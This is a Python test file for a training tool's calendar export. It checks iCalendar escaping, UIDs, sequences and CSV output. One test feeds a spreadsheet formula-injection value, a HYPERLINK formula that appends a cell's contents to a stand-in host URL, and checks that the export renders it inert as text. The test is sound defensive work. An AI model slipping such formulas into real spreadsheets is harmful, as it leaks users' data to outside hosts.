"""The calendar's .ics to the letter of RFC 5545, read by two independent parsers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
import vobject
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cmtraining.planning.calendar import generate_calendar
from cmtraining.planning.export import calendar_to_csv, calendar_to_ics, ics_text, ics_to_entries
from cmtraining.planning.posting_windows import posting_windows
from cmtraining.workbook import load, save
from cmtraining.workbook.models import CalendarEntry, ContentPlan, Workbook

STAMP = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
NASTY = "Taller: «robótica», 2ª parte;\nlleva portátil \\ cargador 😀👩‍👩‍👧\nfin"
# Any text a trainee can type or paste: line breaks, commas, semicolons, backslashes,
# emoji, quotes, and control characters (which iCalendar TEXT cannot hold).
text = st.text(alphabet=st.characters(blacklist_categories=("Cs",),
                                      whitelist_characters="\n,;\\\"'😀:"),
               max_size=120).map(str.strip)


def entry(**fields) -> CalendarEntry:
    base = {"day": date(2027, 2, 3), "time": "10:15", "network": "instagram", "pillar": "p0"}
    return CalendarEntry(**{**base, **fields})


def read_with_vobject(data: bytes) -> list[dict]:
    cal = vobject.readOne(data.decode("utf-8"))
    out = []
    for ev in cal.vevent_list:
        def value(name, ev=ev):
            items = ev.contents.get(name, [])
            return items[0].value if items else ""
        out.append({"uid": value("uid"), "sequence": int(value("sequence") or 0),
                    "summary": value("summary"), "description": value("description"),
                    "stamp": value("dtstamp"), "start": value("dtstart"),
                    **{f: value(f"x-cmtraining-{f}") for f in
                       ("network", "pillar", "format", "idea", "note")}})
    return out


def physical_lines(data: bytes) -> list[bytes]:
    assert data.endswith(b"\r\n")
    lines = data[:-2].split(b"\r\n")
    assert not any(b"\n" in line or b"\r" in line for line in lines), "bare LF or CR"
    return lines


# --- Text fields ---------------------------------------------------------------------


def test_an_idea_with_a_newline_exports_and_reads_back_with_both_parsers():
    """It crashed `export calendar` with an AssertionError traceback."""
    e = entry(idea=NASTY.strip(), note="Festivo; «Reyes», 6/1 \\ 🎉", format="carrusel, 3; fotos")
    data = calendar_to_ics([e], org_name="Horno, y; Café \\ La Mascletà 😀", stamp=STAMP,
                           pillar_names={"p0": "Obrador; pan, café"})
    for events in (ics_to_entries(data), read_with_vobject(data)):
        (ev,) = events
        assert ev["idea"] == e.idea and ev["note"] == e.note and ev["format"] == e.format
        assert ev["summary"] == "Instagram · Obrador; pan, café"
        assert ev["description"].startswith(e.idea + "\n")
        assert ev["network"] == "instagram" and ev["pillar"] == "p0"
    cal = vobject.readOne(data.decode("utf-8"))
    assert cal.contents["x-wr-calname"][0].value.startswith("Horno, y; Café \\ La Mascletà 😀")


def test_x_properties_are_escaped_text_so_vobject_keeps_the_whole_idea():
    """vobject read an idea with a comma cut off at the comma."""
    data = calendar_to_ics([entry(idea="Pan, café y bollería")], org_name="A", stamp=STAMP)
    assert b"X-CMTRAINING-IDEA;VALUE=TEXT:Pan\\, caf" in data
    assert read_with_vobject(data)[0]["idea"] == "Pan, café y bollería"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(idea=text, note=text.map(lambda s: s[:200]), fmt=text.map(lambda s: s[:200]),
       org=text.filter(bool), pillar=text.filter(bool))
def test_property_any_text_survives_both_parsers(idea, note, fmt, org, pillar):
    e = entry(idea=idea, note=note, format=fmt)
    data = calendar_to_ics([e], org_name=org, stamp=STAMP, pillar_names={"p0": pillar})
    for line in physical_lines(data):
        assert len(line) <= 75
        line.decode("utf-8")  # folding never splits a character
    for ev in (ics_to_entries(data)[0], read_with_vobject(data)[0]):
        assert (ev["idea"], ev["note"], ev["format"]) == tuple(
            ics_text(v) for v in (e.idea, e.note, e.format))
        assert ev["summary"] == ics_text(f"Instagram · {pillar}")


def test_line_breaks_of_any_kind_and_controls_make_valid_text():
    data = calendar_to_ics([entry(idea="a\r\nb\rc\x00d\x0be\tf")], org_name="A", stamp=STAMP)
    assert b"X-CMTRAINING-IDEA;VALUE=TEXT:a\\nb\\ncde\tf\r\n" in data
    assert read_with_vobject(data)[0]["idea"] == "a\nb\ncde\tf"


def test_lines_are_crlf_and_folded_at_75_octets():
    long_idea = "Receta de roscón de Reyes con nata, trufa y cabello de ángel 🥐 " * 6
    data = calendar_to_ics([entry(idea=long_idea.strip())], org_name="A", stamp=STAMP)
    lines = physical_lines(data)
    assert max(len(line) for line in lines) == 75  # folded, and no line longer
    assert any(line.startswith(b" ") for line in lines)  # continuation lines
    assert read_with_vobject(data)[0]["idea"] == long_idea.strip()


# --- DTSTAMP, UID, SEQUENCE -----------------------------------------------------------


def test_dtstamp_is_when_the_file_was_written():
    """It was the event's start, in the future."""
    e = entry(day=date(2030, 1, 7))
    before = datetime.now(UTC).replace(microsecond=0)
    data = calendar_to_ics([e], org_name="A")
    after = datetime.now(UTC)
    for ev in (ics_to_entries(data)[0], read_with_vobject(data)[0]):
        assert before <= ev["stamp"] <= after
    assert b"DTSTAMP:20261123T093000Z" in calendar_to_ics([e], org_name="A", stamp=STAMP)


def _workbook(sample_workbook_dict, calendar) -> dict:
    data = dict(sample_workbook_dict)
    data["content_plan"] = {"pillars": [{"id": "p0", "name": "Obrador", "share": 100}],
                            "calendar": calendar}
    return data


@pytest.fixture
def sample_dict():
    from cmtraining.samples.organizations import sample_workbook

    return sample_workbook("cafe", lang="es").model_dump(mode="json")


def test_a_moved_post_keeps_its_uid_and_a_changed_one_raises_its_sequence(sample_dict, tmp_path):
    """The UID was built from day, time and network: moving a post made a new event."""
    posts = [{"day": "2027-02-03", "time": "10:15", "network": "instagram", "pillar": "p0"},
             {"day": "2027-02-04", "time": "10:15", "network": "instagram", "pillar": "p0"}]
    wb = Workbook.model_validate(_workbook(sample_dict, posts))
    uids = [e.uid for e in wb.content_plan.calendar]
    assert all(uids) and len(set(uids)) == 2
    path = tmp_path / "w.yaml"
    save(wb, path)
    assert [e.uid for e in load(path).content_plan.calendar] == uids  # stored
    moved = load(path).model_dump()
    moved["content_plan"]["calendar"][0].update(day=date(2027, 2, 5), time="18:30",
                                                sequence=1)
    wb2 = Workbook.model_validate(moved)
    before = {ev["uid"]: ev for ev in ics_to_entries(calendar_to_ics(
        wb.content_plan.calendar, org_name=wb.profile.name, stamp=STAMP))}
    after = {ev["uid"]: ev for ev in read_with_vobject(calendar_to_ics(
        wb2.content_plan.calendar, org_name=wb2.profile.name, stamp=STAMP))}
    assert set(before) == set(after) == set(uids)  # a calendar app updates the same events
    assert after[uids[0]]["sequence"] == before[uids[0]]["sequence"] + 1
    assert after[uids[0]]["start"].date() == date(2027, 2, 5)


def test_an_old_workbook_keeps_the_uids_its_old_exports_had(sample_dict):
    """Entries saved before UIDs were stored get the UID older exports wrote."""
    import hashlib

    posts = [{"day": "2027-02-03", "time": "10:15", "network": "instagram", "pillar": "p0"},
             {"day": "2027-02-03", "time": "10:15", "network": "instagram", "pillar": "p0",
              "idea": "otra"}]
    wb = Workbook.model_validate(_workbook(sample_dict, posts))
    name = wb.profile.name

    def old(repeat):
        key = f"{name}|2027-02-03|10:15|instagram|{repeat}"
        return f"{hashlib.sha256(key.encode()).hexdigest()[:32]}@cmtraining"

    assert [e.uid for e in wb.content_plan.calendar] == [old(0), old(1)]
    assert Workbook.model_validate(_workbook(sample_dict, posts)).model_dump() == wb.model_dump()


def test_a_new_post_in_a_moved_posts_old_slot_gets_another_uid(sample_dict):
    first = Workbook.model_validate(_workbook(sample_dict, [
        {"day": "2027-02-03", "time": "10:15", "network": "instagram", "pillar": "p0"}]))
    taken = first.content_plan.calendar[0].uid
    moved = first.content_plan.calendar[0].model_dump() | {"day": date(2027, 2, 9)}
    wb = Workbook.model_validate(_workbook(sample_dict, [
        moved, {"day": "2027-02-03", "time": "10:15", "network": "instagram", "pillar": "p0"}]))
    assert wb.content_plan.calendar[0].uid == taken
    assert wb.content_plan.calendar[1].uid not in ("", taken)


def test_two_posts_with_one_uid_are_refused(sample_dict):
    from cmtraining.core.errors import WorkbookValidationError
    from cmtraining.workbook.validation import validate_model

    posts = [{"day": "2027-02-03", "network": "x", "pillar": "p0", "uid": "a@b"},
             {"day": "2027-02-04", "network": "x", "pillar": "p0", "uid": "a@b"}]
    with pytest.raises(WorkbookValidationError) as info:
        validate_model(Workbook, _workbook(sample_dict, posts), source="w.yaml")
    assert "content_plan.calendar[1].uid" in str(info.value)


# --- Posting windows per kind of organization ------------------------------------------


def test_a_cafe_posts_around_the_weekend_and_a_company_on_weekdays():
    plan = ContentPlan(pillars=[{"id": "p0", "name": "Obrador", "share": 100}],
                       posts_per_week={"instagram": 3, "facebook": 3})
    start = date(2027, 3, 1)  # four weeks without holidays in Spain
    cafe = generate_calendar(plan, start=start, weeks=4, country="ES", seed=2, kind="smb")
    company = generate_calendar(plan, start=start, weeks=4, country="ES", seed=2, kind="company")
    assert sum(e.day.weekday() >= 5 for e in cafe) >= len(cafe) / 3
    assert not any(e.day.weekday() >= 5 for e in company)
    windows = posting_windows().for_kind("smb")
    for e in cafe:
        hour, minute = (int(x) for x in e.time.split(":"))
        assert hour * 60 + minute in windows[e.network].all_slots(), e


def test_every_kind_window_is_sourced():
    data = posting_windows()
    assert "smb" in data.kinds
    for kind, special in data.kinds.items():
        source = data.sources[special.source]
        assert source.note or source.url, kind


# --- The CLI and the CSV as a reader sees them ------------------------------------------


def test_cli_exports_a_calendar_whose_idea_has_a_newline(tmp_path):
    from cmtraining.workbook import update
    from tests.conftest import run_cli

    wb_path = tmp_path / "w.yaml"
    run_cli("new", "--org", "cafe", "--out", str(wb_path))

    def plan(wb):
        data = wb.model_dump()
        data["content_plan"]["pillars"] = [{"id": "p0", "name": "Obrador", "share": 100}]
        data["content_plan"]["calendar"] = [
            {"day": date(2027, 2, 3), "network": "instagram", "pillar": "p0", "idea": NASTY},
            {"day": date(2027, 2, 4), "network": "facebook", "pillar": "p0",
             "idea": '=HYPERLINK("http://example.invalid/?"&A1,"premio")'}]
        return data

    update(wb_path, plan)
    assert run_cli("validate", str(wb_path)).returncode == 0
    out = tmp_path / "c.ics"
    done = run_cli("export", "calendar", str(wb_path), "--out", str(out))
    assert done.returncode == 0, done.stderr
    ideas = [ev["idea"] for ev in read_with_vobject(out.read_bytes())]
    assert NASTY.strip() in ideas
    done = run_cli("export", "calendar", str(wb_path), "--out", str(tmp_path / "c.csv"))
    assert done.returncode == 0, done.stderr
    raw = (tmp_path / "c.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())  # Excel reads the accents as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Fecha", "Día", "Hora", "Red", "Pilar", "Formato", "Idea", "Nota"]
    assert rows[1][:2] == ["2027-02-03", "miércoles"]
    assert rows[1][6] == NASTY.strip()  # a multi-line cell stays one cell
    assert rows[2][6].startswith("'=HYPERLINK(")  # shown as text, never run


def test_csv_export_reads_back_with_pandas():
    import pandas as pd

    entries = [entry(idea=NASTY.strip(), note="a,b;c"), entry(day=date(2027, 2, 4),
                                                              idea="-2 kilos de pan")]
    frame = pd.read_csv(io.StringIO(calendar_to_csv(entries, lang="en", bom=True)), dtype=str,
                        keep_default_na=False)
    assert list(frame.columns) == ["Date", "Weekday", "Time", "Network", "Pillar", "Format",
                                   "Idea", "Note"]
    assert frame["Weekday"].tolist() == ["Wednesday", "Thursday"]
    assert frame["Idea"].tolist() == [NASTY.strip(), "'-2 kilos de pan"]
    assert frame["Note"].tolist() == ["a,b;c", ""]
    assert frame["Date"].tolist() == ["2027-02-03", "2027-02-04"]


def test_ics_reader_still_reads_files_written_before_value_text():
    old = (b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VEVENT\r\nUID:1\r\n"
           b"DTSTAMP:20261101T000000Z\r\nDTSTART:20261102T100000Z\r\n"
           b"DTEND:20261102T103000Z\r\n"
           b"X-CMTRAINING-IDEA:Pan\\, caf\xc3\xa9\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    (ev,) = ics_to_entries(old)
    assert ev["idea"] == "Pan, café" and ev["end"] - ev["start"] == timedelta(minutes=30)


def test_editing_a_post_in_the_content_app_raises_its_sequence(workspace):
    """SEQUENCE rises with each change, and the download carries the new version."""
    import base64

    from cmtraining.apps.content import build_app
    from cmtraining.runtime.session import open_session
    from cmtraining.runtime.workspace import create_workbook

    made = create_workbook("Ana", "cafe", lang="es")
    app = build_app(open_session("03-content-plan", workbook=made.id, lang="es"),
                    today=date(2026, 11, 23))
    app.pillars.add_button.click()
    row = app.pillars.fields[0]
    row["name"].value, row["share"].value = "Obrador", 100
    app.weeks.value = 2
    app.generate.click()
    calendar = load(made.path).content_plan.calendar
    assert calendar and all(e.uid and e.sequence == 0 for e in calendar)
    assert sum(e.day.weekday() >= 5 for e in calendar) >= len(calendar) / 3  # a café's weekend
    idea = app.entry_fields[0]["idea"]
    idea.value = "Roscón, nata; y trufa"
    idea.value = "Roscón, nata; y trufa\ncon reserva"
    first = load(made.path).content_plan.calendar[0]
    assert first.uid == calendar[0].uid and first.sequence == 2
    ics = base64.b64decode(app.downloads.value.split("base64,")[1].split("'")[0])
    (event,) = [ev for ev in read_with_vobject(ics) if ev["uid"] == first.uid]
    assert event["sequence"] == 2 and event["idea"] == "Roscón, nata; y trufa\ncon reserva"


def test_a_regenerated_calendar_supersedes_the_events_of_the_old_one(workspace):
    """A post in a slot an earlier post had keeps its UID with a higher SEQUENCE."""
    from cmtraining.apps.content import build_app
    from cmtraining.runtime.session import open_session
    from cmtraining.runtime.workspace import create_workbook

    made = create_workbook("Ana", "ngo", lang="es")
    app = build_app(open_session("03-content-plan", workbook=made.id, lang="es"),
                    today=date(2026, 11, 23))
    app.pillars.add_button.click()
    row = app.pillars.fields[0]
    row["name"].value, row["share"].value = "Impacto", 100
    app.weeks.value = 2
    app.generate.click()
    first = {e.uid: e for e in load(made.path).content_plan.calendar}
    app.generate.click()  # same seed, same slots
    second = load(made.path).content_plan.calendar
    assert {e.uid for e in second} == set(first)
    assert all(e.sequence == first[e.uid].sequence + 1 for e in second)
